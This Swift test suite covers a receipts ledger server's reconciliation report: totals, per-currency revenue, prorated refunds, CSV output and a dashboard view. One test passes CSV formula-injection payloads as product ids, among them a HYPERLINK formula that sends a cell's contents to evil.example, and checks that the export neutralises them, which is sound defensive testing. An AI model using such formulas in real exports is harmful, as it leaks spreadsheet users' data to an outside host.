import AppleReceipts
import Foundation
import Hummingbird
import HummingbirdTesting
import LedgerServer
import LedgerStore
import LedgerTestSupport
import PostgresNIO
import Testing

/// A ledger as it ships: both environments (the default list), with the app id production needs.
func bothEnvironments(_ configuration: inout LedgerConfiguration) {
    configuration.apple.environments = [.production, .sandbox]
    configuration.apple.appID = TestApple.appAppleId
}

@Suite("The reconciliation report")
struct ReportRoutesTests {
    let apple: TestApple
    init() throws { apple = try TestApple() }

    @Test("the report's totals equal the projections after a mixed workload; CSV on request")
    func sumsMatchProjections() async throws {
        try await withReceiptsApplication(apple, configure: bothEnvironments) { http, db in
            func order(_ id: String, user: String, product: String, price: String, currency: String) async throws {
                try await http.send(.post, "/v1/orders", json: ["orderId": id, "userId": user, "productId": product, "price": price, "currency": currency, "quantity": 2])
            }
            func receipt(_ tx: String, order: String?, user: String, product: String) async throws {
                var transaction = TestApple.transaction(tx, product: product, environment: "Production")
                transaction.quantity = 2  // as the orders ask: Apple's quantity is checked
                var body: [String: Any] = ["userId": user, "signedTransaction": try await apple.sign(transaction)]
                if let order { body["orderId"] = order }
                try await http.send(.post, "/v1/receipts", json: body)
            }
            for index in 0..<4 { try await order("r-usd-\(index)", user: "ru-\(index)", product: "gems.100", price: "0.99", currency: "USD") }
            for index in 0..<3 { try await order("r-eur-\(index)", user: "ru-\(index)", product: "gems.500", price: "4.99", currency: "EUR") }
            try await receipt("9000001", order: "r-usd-0", user: "ru-0", product: "gems.100")
            try await receipt("9000002", order: "r-usd-1", user: "ru-1", product: "gems.100")
            try await receipt("9000003", order: "r-eur-0", user: "ru-0", product: "gems.500")
            try await receipt("9000004", order: "r-eur-1", user: "ru-1", product: "gems.100")          // product mismatch: fails, pooled
            try await receipt("9000005", order: nil, user: "ru-2", product: "gems.500")               // orphan, reconciled to r-eur-2
            try await receipt("9000006", order: nil, user: "ru-9", product: "gems.100")               // orphan, no candidate
            try await http.send(.post, "/v1/orders/r-usd-0/events", json: ["type": "delivered", "data": [:]])
            try await http.send(.post, "/v1/orders/r-usd-0/events", json: ["type": "finished", "data": [:]])
            try await http.send(.post, "/v1/orders/r-usd-3/events", json: ["type": "failed", "data": ["reason": "cancelled"]])
            try await http.notifyApple(try await apple.notification("REFUND", transaction: TestApple.transaction("9000002", environment: "Production"), environment: "Production"))
            try await http.send(.post, "/v1/reconcile")
            try await order("r-usd-9", user: "ru-5", product: "gems.100", price: "0.99", currency: "USD")
            try await http.send(.post, "/v1/transactions/9000004/match", json: ["orderId": "r-usd-9", "force": true, "reason": "ticket 7"])

            let (status, report) = try await http.send(.get, "/v1/reports/reconciliation?from=2000-01-01")
            #expect(status == .ok)
            let totals = report["totals"] as? [String: Any] ?? [:]
            func projection(_ sql: PostgresQuery) async throws -> Int { try await scalar(db, sql, as: Int.self) ?? -1 }
            #expect(totals["ordersCreated"] as? Int == (try await projection("SELECT count(*)::int FROM orders")))
            #expect(totals["verified"] as? Int == (try await projection("SELECT count(*)::int FROM orders WHERE transaction_id IS NOT NULL")))
            #expect(totals["delivered"] as? Int == 1 && totals["finished"] as? Int == 1)
            #expect(totals["failed"] as? Int == (try await projection("SELECT count(*)::int FROM orders WHERE state = 'failed'")))
            #expect(totals["failedByReason"] as? [String: Int] == ["cancelled": 1, "product-mismatch": 1])
            #expect(totals["refunded"] as? Int == (try await projection("SELECT count(*)::int FROM orders WHERE state = 'refunded'")))
            // Two currencies: their money per currency, never added up.
            for currency in ["USD", "EUR"] {
                let revenue = try await scalar(db, """
                    SELECT sum(price * quantity)::text FROM orders WHERE transaction_id IS NOT NULL AND state <> 'refunded' AND currency = \(currency)
                    """, as: String.self)
                #expect(Decimal(string: (totals["revenueByCurrency"] as? [String: String])?[currency] ?? "") == Decimal(string: revenue ?? ""), "\(totals)")
            }
            #expect(totals["revenue"] == nil && totals["refundedAmount"] == nil && totals["currency"] == nil, "\(totals)")
            #expect((totals["pairingsByRule"] as? [String: Int])?.values.reduce(0, +) == (try await projection("SELECT count(*)::int FROM events WHERE type = 'transaction-matched'")))
            #expect(totals["supportPairings"] as? Int == 1)
            #expect((report["unmatched"] as? [String: Any])?["count"] as? Int == (try await projection("SELECT count(*)::int FROM unmatched_transactions")))
            let rows = report["rows"] as? [[String: Any]] ?? []
            #expect(rows.reduce(0) { $0 + ($1["ordersCreated"] as? Int ?? 0) } == totals["ordersCreated"] as? Int)
            #expect(Set(rows.compactMap { $0["currency"] as? String }) == ["USD", "EUR"])

            let csv = try await http.client.execute(
                uri: "/v1/reports/reconciliation?from=2000-01-01", method: .get,
                headers: [.authorization: "Bearer \(http.key)", .accept: "text/csv"])
            let text = String(buffer: csv.body)
            #expect(csv.headers[.contentType]?.hasPrefix("text/csv") == true)
            #expect(text.hasPrefix("day,product_id,currency,orders_created"))
            #expect(text.contains("\ntotal,total,,\(totals["ordersCreated"] as? Int ?? -1),"))
            let totalsLine = text.split(separator: "\n").first { $0.hasPrefix("total,") && $0.contains(",Production,") } ?? ""
            #expect(totalsLine.contains(",EUR=") && totalsLine.contains(";USD="), "\(totalsLine)")
            // Quality values: CSV refused (q=0), or ranked below JSON, answers JSON.
            for (accept, isCSV) in [("text/csv;q=0, application/json", false), ("application/json, text/csv;q=0.5", false),
                                    ("application/json;q=0.5, text/csv", true), ("text/csv, application/json", true)] {
                let answer = try await http.client.execute(
                    uri: "/v1/reports/reconciliation?from=2000-01-01", method: .get, headers: [.authorization: "Bearer \(http.key)", .accept: accept])
                #expect(answer.headers[.contentType]?.hasPrefix("text/csv") == isCSV, "\(accept)")
            }
            let (bad, error) = try await http.send(.get, "/v1/reports/reconciliation?from=last-week")
            #expect(bad == .badRequest && errorOf(error)["field"] as? String == "from")
        }
    }

    @Test("orders priced without a currency: the totals sum them as one currency, named by none; with a currency beside them, per currency only")
    func pricesWithoutCurrency() async throws {
        try await withReceiptsApplication(apple, configure: bothEnvironments) { http, _ in
            for (index, currency) in [(0, nil), (1, nil), (2, "USD")] as [(Int, String?)] {
                var body: [String: Any] = ["orderId": "nc-\(index)", "userId": "nu-\(index)", "productId": "gems.100", "price": "0.99"]
                if let currency { body["currency"] = currency }
                try await http.send(.post, "/v1/orders", json: body)
                let jws = try await apple.sign(TestApple.transaction("9500\(index)", environment: "Production"))
                let (_, answer) = try await http.send(.post, "/v1/receipts", json: ["orderId": "nc-\(index)", "signedTransaction": jws])
                #expect(answer["outcome"] as? String == "matched", "\(answer)")
                if index == 1 {
                    let (_, report) = try await http.send(.get, "/v1/reports/reconciliation?from=2000-01-01")
                    let totals = report["totals"] as? [String: Any] ?? [:]
                    #expect(Decimal(string: totals["revenue"] as? String ?? "") == Decimal(string: "1.98") && totals["currency"] == nil, "\(totals)")
                    #expect((totals["revenueByCurrency"] as? [String: String])?[""].flatMap { Decimal(string: $0) } == Decimal(string: "1.98"), "\(totals)")
                }
            }
            let (_, report) = try await http.send(.get, "/v1/reports/reconciliation?from=2000-01-01")
            let totals = report["totals"] as? [String: Any] ?? [:]
            #expect(totals["revenue"] == nil, "\(totals)")
            let byCurrency = (totals["revenueByCurrency"] as? [String: String] ?? [:]).mapValues { Decimal(string: $0) }
            #expect(byCurrency == ["": Decimal(string: "1.98"), "USD": Decimal(string: "0.99")], "\(totals)")
        }
    }

    @Test("a prorated refund takes back its share, a full one (or one stored before Apple's type was read) the whole: in the report and dashboards.daily_orders")
    func proratedRefunds() async throws {
        try await withReceiptsApplication(apple, configure: bothEnvironments) { http, db in
            func paid(_ id: String, _ tx: String, price: String) async throws -> SignedTransactionPayload {
                try await http.send(.post, "/v1/orders", json: ["orderId": id, "userId": "u-\(id)", "productId": "gems.100", "price": price, "currency": "USD", "quantity": 2])
                var transaction = TestApple.transaction(tx, environment: "Production")
                transaction.quantity = 2
                try await http.send(.post, "/v1/receipts", json: ["orderId": id, "signedTransaction": try await apple.sign(transaction)])
                return transaction
            }
            func refund(_ transaction: SignedTransactionPayload, type: String, percentage: Int?) async throws {
                var refunded = transaction
                refunded.revocationDate = Date().millisecondsSince1970
                refunded.revocationType = type
                refunded.revocationPercentage = percentage
                let (status, _) = try await http.notifyApple(try await apple.notification("REFUND", transaction: refunded, environment: "Production"))
                #expect(status == .ok)
            }
            try await refund(try await paid("p-prorated", "9100001", price: "4.99"), type: "REFUND_PRORATED", percentage: 25_000)  // 9.98: 2.495 back
            try await refund(try await paid("p-full", "9100002", price: "0.99"), type: "REFUND_FULL", percentage: 100_000)        // 1.98 back
            _ = try await paid("p-before", "9100003", price: "0.99")
            // As the ledger stored refunds before: the notification's type in revocationType; all 1.98 back.
            try await http.send(.post, "/v1/orders/p-before/events", json: ["type": "refunded", "data": ["revocationDate": "2026-11-21T10:00:00Z", "revocationType": "REFUND"]])
            _ = try await paid("p-kept", "9100004", price: "0.99")

            let (_, report) = try await http.send(.get, "/v1/reports/reconciliation?from=2000-01-01")
            let totals = report["totals"] as? [String: Any] ?? [:]
            #expect(totals["verified"] as? Int == 4 && totals["refunded"] as? Int == 3, "\(totals)")
            #expect(Decimal(string: totals["refundedAmount"] as? String ?? "") == Decimal(string: "6.455"), "\(totals)")
            #expect(Decimal(string: totals["revenue"] as? String ?? "") == Decimal(string: "9.465"), "9.98 + 3 × 1.98 - 6.455: \(totals)")
            let csv = try await http.client.execute(
                uri: "/v1/reports/reconciliation?from=2000-01-01", method: .get, headers: [.authorization: "Bearer \(http.key)", .accept: "text/csv"])
            let lines = String(buffer: csv.body).split(separator: "\n")
            #expect(lines.first?.hasSuffix(",refunds_caught_up,refunded_amount,environment,bundle_id,kind,periods,revenue_by_currency,refunded_amount_by_currency") == true)
            #expect(lines.first { $0.hasPrefix("total,") }?.hasSuffix(",6.455,Production,,total,0,USD=9.465,USD=6.455") == true, "\(lines)")

            // The dashboard, as its reader sees it.
            let connection = try await db.connect()
            try await connection.query("SET ROLE ledger_reader", logger: TestServer.logger)
            let rows = try await connection.query(
                "SELECT state, sum(amount)::text, sum(refunded_amount)::text FROM dashboards.daily_orders GROUP BY state ORDER BY state", logger: TestServer.logger)
            var byState: [String: (Decimal?, Decimal?)] = [:]
            for try await (state, amount, refunded) in rows.decode((String, String, String).self) {
                byState[state] = (Decimal(string: amount), Decimal(string: refunded))
            }
            try await connection.close()
            #expect(byState["refunded"]?.0 == Decimal(string: "13.94") && byState["refunded"]?.1 == Decimal(string: "6.455"), "\(byState)")
            #expect(byState["verified"]?.1 == 0, "\(byState)")
        }
    }

    @Test("client-chosen text in the CSV is never a spreadsheet formula, and a reason's map reads back one way; a reason with a line break is refused")
    func csvCellsAreInert() async throws {
        try await withReceiptsApplication(apple) { http, _ in
            let formula = #"=HYPERLINK("http://evil.example/?"&A1,"open")"#
            for (order, product) in [("f-1", formula), ("f-2", "+SUM(1,2)"), ("f-3", "@SUM(1)"), ("f-4", "-2+3")] {
                let (created, answer) = try await http.send(.post, "/v1/orders", json: newOrder(order, product: product))
                #expect(created == .created, "\(answer)")
            }
            let (failed, _) = try await http.send(.post, "/v1/orders/f-1/events", json: ["type": "failed", "data": ["reason": "=1+2;x=y=1"]])
            #expect(failed == .created)
            let (refused, error) = try await http.send(.post, "/v1/orders/f-2/events", json: ["type": "failed", "data": ["reason": "line1\r\nline2"]])
            #expect(refused == .badRequest && errorOf(error)["message"] as? String == "reason contains a control character", "\(error)")

            let csv = try await http.client.execute(
                uri: "/v1/reports/reconciliation?from=2000-01-01", method: .get, headers: [.authorization: "Bearer \(http.key)", .accept: "text/csv"])
            let lines = String(buffer: csv.body).split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
            let cells = lines.dropFirst().map { $0.split(separator: ",", maxSplits: 2).dropFirst().first.map(String.init) ?? "" }
            #expect(cells.contains(#""'=HYPERLINK(""http://evil.example/?""&A1"#), "\(lines)")
            #expect(cells.contains(#""'+SUM(1"#) && cells.contains("'@SUM(1)") && cells.contains("'-2+3"), "\(lines)")
            #expect(lines.contains { $0.contains(",1,%3D1+2%3Bx%3Dy%3D1=1,") }, "the reason's map: \(lines)")
            #expect(!lines.contains { $0.contains(",'total,") || $0.contains("=1+2;") }, "\(lines)")
        }
    }
}
